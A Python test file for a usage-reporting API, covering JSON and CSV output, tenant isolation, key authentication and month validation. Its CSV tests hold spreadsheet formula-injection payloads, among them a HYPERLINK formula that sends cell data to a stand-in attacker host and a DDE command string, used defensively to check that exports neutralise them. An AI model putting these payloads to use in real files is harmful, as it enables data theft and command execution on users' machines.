"""The licensee API ``GET /v1/usage/conversations`` against a real server, on both databases."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from sqlalchemy import select
from sqlmodel import Session

from core.chat import conversations as units
from core.chat.conversations import Speaker, UnitPolicy
from core.chat.frames import EndReason
from core.db.engine import Database
from core.db.tables import ApiKey
from core.licensing.licensees import revoke_key
from core.reporting.usage import USAGE_COLUMNS
from core.spreadsheet import FORMULA_TRIGGERS, csv_bytes, restore_cell
from testkit.servers import LiveServer

BOM = b"\xef\xbb\xbf"
PATH = "/v1/usage/conversations"
# end_user (extension) is appended last, so the base columns keep their positions.
COLUMNS = [
    "id",
    "started_at",
    "ended_at",
    "end_reason",
    "billable",
    "test",
    "messages",
    "end_user",
]
FEB = datetime(2026, 1, 31, 16, 0, tzinfo=UTC)  # 1 February 00:00 in Shanghai
AI = {"label": "AI-generated", "producer": "test", "model": "echo-1", "content_id": "c"}


def speaker(db: Database, licensee_id: str, visitor: str, *, test: bool = False) -> Speaker:
    k = ApiKey.__table__.c  # type: ignore[attr-defined]
    kind = "test" if test else "live"
    key_id = db.read(
        lambda conn: conn.execute(
            select(k.id).where(k.licensee_id == licensee_id, k.kind == kind)
        ).scalar_one()
    )
    return Speaker(licensee_id, visitor, key_id, test, False, UnitPolicy())


def conversation(
    db: Database,
    who: Speaker,
    at: datetime,
    texts: list[str],
    *,
    reply: bool = True,
    end: bool = True,
) -> str:
    """One conversation: visitor messages a minute apart, a robot reply, closed by the visitor.

    Closed explicitly at a fixed time so that the server's idle sweeper never touches it.
    """

    def write(conn: Session) -> str:
        first = None
        for n, text in enumerate(texts):
            rec = units.record_visitor_message(
                conn, who, f"{at.timestamp()}-{n}", text, at + timedelta(minutes=n)
            )
            first = first or rec.conversation.id
        assert first is not None
        if reply:
            units.record_reply(
                conn,
                conversation_id=first,
                licensee_id=who.licensee_id,
                visitor_id=who.visitor_id,
                message_id=f"msg_r_{first}",
                text="an answer",
                ai=AI,
                sources=[],
                now=at + timedelta(minutes=len(texts)),
            )
        if end:
            units.end_open(
                conn,
                who.licensee_id,
                who.visitor_id,
                EndReason.CLOSED,
                at + timedelta(minutes=len(texts) + 1),
            )
        return first

    return db.writer.run(write)


@pytest.fixture
def client(live: LiveServer) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=live.url, timeout=10) as http:
        yield http


@pytest.fixture
def shops(db: Database, make_tenant: Callable[..., Any]) -> dict[str, Any]:
    a = make_tenant("Shop A")
    b = make_tenant("Shop B")
    ids = {
        "jan": conversation(
            db, speaker(db, a.licensee.id, "v1"), FEB - timedelta(seconds=1), ["last of january"]
        ),
        "feb": conversation(db, speaker(db, a.licensee.id, "v2"), FEB, ["hello", "more"]),
        "formula": conversation(
            db,
            speaker(db, a.licensee.id, "v3"),
            FEB + timedelta(hours=2),
            ['=HYPERLINK("http://evil.example/?"&A1,"click")'],
            reply=False,
        ),
        "trial": conversation(
            db, speaker(db, a.licensee.id, "v4", test=True), FEB + timedelta(hours=3), ["test"]
        ),
        "b_feb": conversation(db, speaker(db, b.licensee.id, "v1"), FEB, ["other shop"]),
    }
    return {"a": a, "b": b, "ids": ids}


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


# ------------------------------------------------------------------------------ JSON


def test_usage_json_shape_and_times_in_the_licensees_offset(
    client: httpx.Client, shops: dict[str, Any]
) -> None:
    ids = shops["ids"]
    response = client.get(
        PATH, params={"month": "2026-02"}, headers=bearer(shops["a"].keys.secret_key)
    )

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/json")
    data = response.json()
    assert {"month", "units", "conversations"} <= set(data)
    assert data["month"] == "2026-02"
    assert data["units"] == 2  # feb + formula; the test-key conversation is not billed
    rows = data["conversations"]
    assert [r["id"] for r in rows] == [ids["feb"], ids["formula"], ids["trial"]]
    for row in rows:
        assert set(COLUMNS) <= set(row)
        assert row["started_at"].endswith("+08:00")
        assert row["ended_at"].endswith("+08:00")
        assert datetime.fromisoformat(row["started_at"]).utcoffset() == timedelta(hours=8)
    feb = rows[0]
    # 16:00 UTC on 31 January is the first second of February in Shanghai.
    assert feb["started_at"] == "2026-02-01T00:00:00+08:00"
    assert feb["ended_at"] == "2026-02-01T00:03:00+08:00"
    assert feb["end_reason"] == "closed"
    assert (feb["billable"], feb["test"], feb["messages"]) == (True, False, 3)
    assert rows[1]["messages"] == 1
    trial = rows[2]
    assert (trial["billable"], trial["test"], trial["messages"]) == (False, True, 2)


def test_a_unit_belongs_to_the_month_it_started_in_the_licensees_zone(
    client: httpx.Client, shops: dict[str, Any]
) -> None:
    key = shops["a"].keys.secret_key
    data = client.get(PATH, params={"month": "2026-01"}, headers=bearer(key)).json()
    # 23:59:59 on 31 January in Shanghai (15:59:59 UTC): January, not February.
    assert [r["id"] for r in data["conversations"]] == [shops["ids"]["jan"]]
    assert data["conversations"][0]["started_at"] == "2026-01-31T23:59:59+08:00"
    assert data["units"] == 1

    empty = client.get(PATH, params={"month": "2025-06"}, headers=bearer(key))
    assert empty.status_code == 200
    assert empty.json()["month"] == "2025-06"
    assert (empty.json()["units"], empty.json()["conversations"]) == (0, [])


def test_licensee_a_never_sees_licensee_b(client: httpx.Client, shops: dict[str, Any]) -> None:
    ids = shops["ids"]
    a_rows = client.get(
        PATH, params={"month": "2026-02"}, headers=bearer(shops["a"].keys.secret_key)
    ).json()["conversations"]
    b_data = client.get(
        PATH, params={"month": "2026-02"}, headers=bearer(shops["b"].keys.secret_key)
    ).json()
    assert ids["b_feb"] not in {r["id"] for r in a_rows}
    assert [r["id"] for r in b_data["conversations"]] == [ids["b_feb"]]
    assert b_data["units"] == 1
    a_csv = client.get(
        PATH,
        params={"month": "2026-02"},
        headers={**bearer(shops["a"].keys.secret_key), "Accept": "text/csv"},
    )
    assert ids["b_feb"] not in a_csv.text
    assert (
        ids["feb"]
        not in client.get(
            PATH,
            params={"month": "2026-02"},
            headers={**bearer(shops["b"].keys.secret_key), "Accept": "text/csv"},
        ).text
    )


# ------------------------------------------------------------------------------ CSV


def parse_csv(body: bytes) -> list[list[str]]:
    assert body.startswith(BOM)
    return list(csv.reader(io.StringIO(body[len(BOM) :].decode("utf-8"), newline="")))


def test_usage_csv_has_a_bom_the_columns_and_no_formula(
    client: httpx.Client, shops: dict[str, Any]
) -> None:
    ids = shops["ids"]
    key = shops["a"].keys.secret_key
    response = client.get(
        PATH, params={"month": "2026-02"}, headers={**bearer(key), "Accept": "text/csv"}
    )

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = parse_csv(response.content)
    assert rows[0] == COLUMNS
    assert [r[0] for r in rows[1:]] == [ids["feb"], ids["formula"], ids["trial"]]
    feb = dict(zip(COLUMNS, rows[1], strict=True))
    assert feb == {
        "id": ids["feb"],
        "started_at": "2026-02-01T00:00:00+08:00",
        "ended_at": "2026-02-01T00:03:00+08:00",
        "end_reason": "closed",
        "billable": "true",
        "test": "false",
        "messages": "3",
        "end_user": "",
    }
    trial = dict(zip(COLUMNS, rows[3], strict=True))
    assert (trial["billable"], trial["test"]) == ("false", "true")
    # Only the listed columns: the visitor's "=HYPERLINK(...)" text is not in the file, and no
    # cell is one a spreadsheet would evaluate.
    assert "HYPERLINK" not in response.content.decode("utf-8")
    for row in rows:
        assert len(row) == len(COLUMNS)
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), cell
    # The same rows as the JSON answer.
    as_json = client.get(PATH, params={"month": "2026-02"}, headers=bearer(key)).json()
    assert [[r["id"], str(r["messages"])] for r in as_json["conversations"]] == [
        [r[0], r[6]] for r in rows[1:]
    ]


def test_usage_of_an_open_conversation_leaves_the_end_empty(
    client: httpx.Client, db: Database, make_tenant: Callable[..., Any]
) -> None:
    shop = make_tenant("Open")
    # Far in the future, so the server's idle sweeper leaves it open.
    at = datetime(2030, 5, 1, 8, 0, tzinfo=UTC)
    conv = conversation(db, speaker(db, shop.licensee.id, "v1"), at, ["hi"], end=False)
    key = shop.keys.secret_key

    rows = parse_csv(
        client.get(
            PATH, params={"month": "2030-05"}, headers={**bearer(key), "Accept": "text/csv"}
        ).content
    )
    line = dict(zip(COLUMNS, rows[1], strict=True))
    assert line["id"] == conv
    assert (line["ended_at"], line["end_reason"]) == ("", "")
    data = client.get(PATH, params={"month": "2030-05"}, headers=bearer(key)).json()
    assert data["conversations"][0]["ended_at"] is None
    assert data["conversations"][0]["end_reason"] is None
    assert data["conversations"][0]["end_user"] is None  # an anonymous visitor
    assert data["units"] == 1


@pytest.mark.parametrize(
    "value",
    [
        "=1+2",
        "+86 21 5555",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        '=HYPERLINK("http://evil.example","x")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_csv_bytes_neutralises_every_formula_start(value: str) -> None:
    body = csv_bytes(USAGE_COLUMNS, [(value, value, None, value, True, False, 1, value)])
    rows = parse_csv(body)
    assert rows[0] == list(USAGE_COLUMNS)
    for cell in (rows[1][0], rows[1][1], rows[1][3], rows[1][7]):
        assert cell == "'" + value
        assert not cell.startswith(FORMULA_TRIGGERS)
        assert restore_cell(cell) == value
    assert rows[1][2] == ""
    assert rows[1][4:7] == ["true", "false", "1"]


def test_csv_bytes_keeps_harmless_text_and_numbers() -> None:
    aware = datetime(2026, 2, 1, 0, 0, tzinfo=UTC)
    body = csv_bytes(["a", "b", "c"], [("a=b", -5, aware)])
    assert parse_csv(body)[1] == ["a=b", "-5", "2026-02-01T00:00:00+00:00"]


# ------------------------------------------------------------------------------ refusals

WRONG_AUTH = [
    {},
    {"Authorization": "Bearer"},
    {"Authorization": "Bearer sk_live_wrong"},
    {"Authorization": "Basic dXNlcjpwYXNz"},
    {"Authorization": "sk_live_nobearer"},
]


def test_only_the_licensees_secret_key_opens_the_api(
    client: httpx.Client, db: Database, shops: dict[str, Any]
) -> None:
    keys = shops["a"].keys
    params = {"month": "2026-02"}
    for headers in WRONG_AUTH:
        response = client.get(PATH, params=params, headers=headers)
        assert response.status_code == 401, headers
        assert shops["ids"]["feb"] not in response.text
    # Site keys are public: neither the live nor the test one reads usage.
    for key in (keys.site_key, keys.test_site_key):
        assert client.get(PATH, params=params, headers=bearer(key)).status_code == 401
    # The scheme is case-insensitive.
    ok = client.get(PATH, params=params, headers={"Authorization": f"bearer {keys.secret_key}"})
    assert ok.status_code == 200
    # A revoked secret key stops working at once.
    with db.session() as session:
        revoke_key(session, keys.secret_key, datetime.now(UTC))
        session.commit()
    assert client.get(PATH, params=params, headers=bearer(keys.secret_key)).status_code == 401


def status_of(client: httpx.Client, shops: dict[str, Any], month: str) -> int:
    response = client.get(PATH, params={"month": month}, headers=bearer(shops["a"].keys.secret_key))
    return response.status_code


def test_a_missing_or_malformed_month_is_400(client: httpx.Client, shops: dict[str, Any]) -> None:
    assert client.get(PATH, headers=bearer(shops["a"].keys.secret_key)).status_code == 400
    months = ["", "2026-13", "26-01", "abc", "2026-00", "2026-1", "2026/02", "2026-02-01"]
    assert {m: status_of(client, shops, m) for m in months} == {m: 400 for m in months}
    # An anonymous caller learns nothing, not even that the month is malformed.
    assert client.get(PATH, params={"month": "abc"}).status_code == 401


def test_a_month_that_only_int_accepts_is_400(client: httpx.Client, shops: dict[str, Any]) -> None:
    """Regression: month parsing with len() and int() took signs, '_', surrounding spaces
    and non-ASCII digits, so ``2026-+2`` was served as February."""
    months = ["2026-+2", "+026-02", "2_26-02", "２０２６-02", "2026-2 "]
    assert {m: status_of(client, shops, m) for m in months} == {m: 400 for m in months}


def test_a_month_at_the_edge_of_the_calendar_is_not_a_server_error(
    client: httpx.Client, shops: dict[str, Any]
) -> None:
    """Regression: months whose bounds leave datetime's range (year 10000 for 9999-12; year 0
    in UTC for 0001-01 in Shanghai) raised outside the InvalidInput handling: a 500."""
    statuses: dict[str, int | str] = {}
    for month in ("9999-12", "0001-01"):
        # A fresh connection each: the server drops the connection after an unhandled error.
        try:
            statuses[month] = httpx.get(
                client.base_url.join(PATH),
                params={"month": month},
                headers=bearer(shops["a"].keys.secret_key),
                timeout=10,
            ).status_code
        except httpx.TransportError as exc:
            statuses[month] = f"connection failed: {exc}"
    assert all(code in (200, 400) for code in statuses.values()), statuses
